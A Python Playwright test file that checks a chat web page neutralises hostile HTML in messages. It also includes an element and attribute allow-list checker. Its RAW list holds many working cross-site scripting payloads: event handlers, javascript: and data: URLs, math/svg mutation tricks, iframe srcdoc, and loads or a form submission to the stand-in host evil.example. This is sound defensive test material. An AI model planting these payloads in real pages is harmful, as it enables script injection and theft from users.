"""Hostile messages that were not sanitised: nothing runs, nothing is fetched, and no control works."""

import asyncio

import pytest
from playwright.async_api import expect

from proxy.chat.render import BlockKind, render_block
from tests.browser.chat_page import RUN_BY_A_MESSAGE, ChatPage
from tests.browser.conftest import Stage
from tests.chat.hostile import HOSTILE
from tests.pace import PATIENCE

RUN = f"{RUN_BY_A_MESSAGE}=1"
AWAY = "//evil.example/?q"
FAILING_WORK = """async () => {
    const { Slices } = await import("/chat/page/slices.js");
    const slices = new Slices(), done = [], errors = [];
    window.reportError = (error) => errors.push(error.message);
    slices.add(() => {
        const end = performance.now() + 50; // the slice is used up, and the rest waits for the next
        while (performance.now() < end);
    });
    for (const number of [0, 1, 2, 3]) {
        slices.add(() => {
            done.push(number);
            if (number === 1) {
                throw new Error("of 1");
            }
        });
    }
    await new Promise((resolve) => slices.add(resolve));
    return [done, errors];
}"""
RAW = [
    f"<script>{RUN}</script>",
    f"<script src='{AWAY}'></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='{AWAY}'>",
    f"<svg onload={RUN}><script>{RUN}</script><a href='javascript:{RUN}'><text>svg</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{RUN}'><maction xlink:href='javascript:{RUN}'>m</maction></math>",
    f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
    f"<math alttext='<img src=x onerror={RUN}>' display=block><mi>m</mi></math>",
    f"<p onclick={RUN} onmouseover={RUN} style='position:fixed;inset:0;background:url({AWAY})' id=x>p</p>",
    f"<a href='javascript:{RUN}' target=_self>go</a><a href=' jav\tascript:{RUN}'>go</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>go</a><a href='vbscript:x'>go</a>",
    f"<a href='{AWAY}'>go</a>",
    "<a href='/chat/reset' target=_top>go</a><a href='blob:https://evil.example/1'>go</a>",
    f"<iframe src='{AWAY}'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='{AWAY}'></object><embed src='{AWAY}'>",
    f"<link rel=stylesheet href='{AWAY}'><style>@import '{AWAY}';*{{background:url({AWAY})}}</style>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'><base href='{AWAY}'>",
    f"<form action='{AWAY}'><input name=q value=secret autofocus onfocus={RUN}><button>send</button></form>",
    f"<input type=image src='{AWAY}'><input type=checkbox onchange={RUN} checked>",
    f"<video src='{AWAY}' poster='{AWAY}' autoplay></video><audio src='{AWAY}' autoplay></audio>",
    f"<picture><source srcset='{AWAY}'><img src='{AWAY}'></picture><body background='{AWAY}'>",
    f"<details open ontoggle={RUN}><summary>s</summary>d</details><marquee onstart={RUN}>m</marquee>",
    f"<template><img src=x onerror={RUN}></template><noscript><img src='{AWAY}'></noscript>",
    f"<xmp><img src=x onerror={RUN}></xmp><textarea><img src=x onerror={RUN}></textarea><title></title>",
    f"<custom-element onclick={RUN}>c</custom-element><llm-chat></llm-chat><slot name=x></slot>",
    "<div class='failure' role='alert'><button class='remedy'>forged</button></div>",
    "<p class='notice wrong' role='alert' aria-live='assertive' tabindex='1' data-say='title'>forged</p>",
    "<span class='question sr-only'>forged</span><pre><code><span class='failure k'>x</span></code></pre>",
    f"<table background='{AWAY}'><tr><td background='{AWAY}' style='width:9999px'>t</td></tr></table>",
    f"</div></section></article><script>{RUN}</script><div class='right'><p>forged question</p></div>",
    f"<p>\u202eevil\u202c <a href='https://good.example@evil.example/' ping='{AWAY}' download>a</a></p>",
    "<" * 500 + "x" + ">" * 500,
    "<b>" * 600 + "deep",
    f"<!--><img src=x onerror={RUN}>--><![CDATA[<img src=x onerror={RUN}>]]><?php x ?>",
]
AT_ONCE = 50
"""The number of messages in one event, so that the page is laid out less often."""
KINDS = ["right", "describe", "left", "error"]
FAULTS = """
(log, { names, attributes }) => {
    const faults = [];
    for (const node of log.querySelectorAll("*")) {
        if (!names.includes(node.localName)) {
            faults.push(`<${node.localName}>`);
        }
        const link = node.localName === "a" && /^(https?|mailto):/.test(node.href)
            && node.target === "_blank" && node.relList.contains("noopener");
        for (const { name, value } of node.attributes) {
            const fitted = name === "style" && value === "" && node.classList.contains("prose");
            const linked = link && ["href", "rel", "target"].includes(name);
            if (!attributes.includes(name) && !fitted && !linked) {
                faults.push(`${node.localName} ${name}=${value}`);
            }
        }
    }
    const own = ".failure, .notice, .question, .remedy, .sr-only, [role=alert], [aria-live], [id], [name]";
    const forged = `.prose :is(${own})`;
    return [...faults, ...[...log.querySelectorAll(forged)].map((node) => node.outerHTML)];
}
"""
NAMES = (
    "section h2 h3 h4 h5 h6 div p span strong em b i del s sub sup ul ol li blockquote pre code table "
    "thead tbody tr th td a br wbr hr figure figcaption details summary button svg path "
    "math mrow mi mn mo ms mtext mspace mfrac msqrt mroot mstyle mpadded mphantom menclose msub msup "
    "msubsup munder mover munderover mmultiscripts mprescripts mtable mtr mtd"
)
ATTRIBUTES = (
    "class role aria-live aria-label aria-hidden tabindex open type title hidden viewBox d data-say "
    "data-say-n data-say-label data-label data-language start display displaystyle mathvariant stretchy "
    "fence separator columnalign minsize maxsize lspace rspace linethickness columnspacing rowspacing width "
    "voffset height depth accent scriptlevel movablelimits notation form data-tex"
)


async def nothing_acts(page: ChatPage) -> None:
    """Check that only harmless elements and attributes exist, and that no part of the page is forged."""
    known = {"names": NAMES.split(), "attributes": ATTRIBUTES.split()}
    assert await page.page.locator("llm-chat .log").evaluate(FAULTS, known) == []
    assert await page.page.evaluate(RUN_BY_A_MESSAGE) is None
    assert await page.page.evaluate("history.length") <= 2


async def test_no_script_in_a_message_runs_in_any_position(stage: Stage) -> None:
    stage.chat.has_policy = False  # the page itself must be safe
    page = await stage.open()
    stage.chat.ask("问")
    for hostile in RAW:
        stage.chat.message(hostile)
        stage.chat.message("".join(f"<div class='{kind}'>{hostile}</div>" for kind in KINDS))
        stage.chat.message(f"<div class='left'><p>{hostile}</p></div>")
    stage.chat.turn("完", "都来了\n")
    await expect(page.answer).to_have_text("都来了")
    await page.page.locator("llm-chat .log").hover()
    await nothing_acts(page)


@pytest.mark.parametrize("kind", ["right", "left"])
async def test_no_script_of_a_model_or_a_visitor_runs_when_rendered(stage: Stage, kind: BlockKind) -> None:
    page = await stage.open()
    stage.chat.ask("问")
    rendered = [render_block(kind, hostile) for hostile in HOSTILE]
    for start in range(0, len(rendered), AT_ONCE):
        stage.chat.message("".join(rendered[start : start + AT_ONCE]))
    stage.chat.turn("完", "都来了\n")
    await expect(page.answer).to_have_text("都来了")
    await nothing_acts(page)


async def test_no_script_runs_in_unrendered_text(stage: Stage) -> None:
    stage.chat.has_policy = False
    page = await stage.open()
    stage.chat.ask("问")
    for hostile in HOSTILE:
        stage.chat.message(f"<div class='left'><p>{hostile}</p></div>")
    stage.chat.turn("完", "都来了\n")
    await expect(page.answer).to_have_text("都来了")
    await nothing_acts(page)


async def test_the_visitors_text_is_shown_literally(stage: Stage) -> None:
    page = await stage.open()
    text = f"<img src=x onerror={RUN}> & <b>粗</b>\n    第二行"
    await page.ask(text)
    await expect(page.questions).to_have_count(1)
    assert await page.questions.inner_text() == text


async def test_invalid_messages_are_ignored(stage: Stage) -> None:
    page = await stage.open()
    odd: object
    for odd in (
        None,
        7,
        [],
        {},
        {"message": 7},
        {"message": None},
        "text",
        {"message": ""},
        {"message": " \n "},
    ):
        stage.chat.publish("message_event", odd)
    for odd in (
        None,
        {},
        {"state": "unheard-of"},
        {"state": 7},
        {"state": "done"},
        {"state": "answering", "at": "x"},
        {"state": "toString"},
        {"state": "constructor", "at": {"toString": 1, "valueOf": 1}},
        {"state": ["thinking"]},
        {"state": {"toString": 1}},
    ):
        stage.chat.publish("state_event", odd)
    stage.chat.turn("问", "好。\n")
    await expect(page.answer).to_have_text("好。")
    await expect(page.turns).to_have_count(1)


async def test_states_and_blocks_of_another_program_may_have_any_fields(stage: Stage) -> None:
    page = await stage.open()
    odd: object
    fields = ("at", "seconds", "model", "reason", "number", "branch_of")
    for number, odd in enumerate(
        (1e300, -1e300, 9e15, 0, "x", None, [], {"toString": 1, "valueOf": 1}, True), 1
    ):
        stage.chat.message("<div class='right'><p>问</p></div>", **dict.fromkeys(fields, odd))
        for state in ("thinking", "answering", "done"):
            stage.chat.publish("state_event", {"state": state, **dict.fromkeys(fields, odd)}, with_id=False)
        stage.chat.message("<div class='error'>出错</div>", **dict.fromkeys(fields, odd))
        await expect(page.turns.locator(".ending")).to_have_count(number)
        await page.in_state("idle")
    await expect(page.turns.locator(".cause")).to_have_text(["出错"] * 9)


async def test_work_that_fails_does_not_hold_up_the_work_behind_it(stage: Stage) -> None:
    page = await stage.open()
    async with asyncio.timeout(PATIENCE):
        done, errors = await page.page.evaluate(FAILING_WORK)
    assert (done, errors) == ([0, 1, 2, 3], ["of 1"])
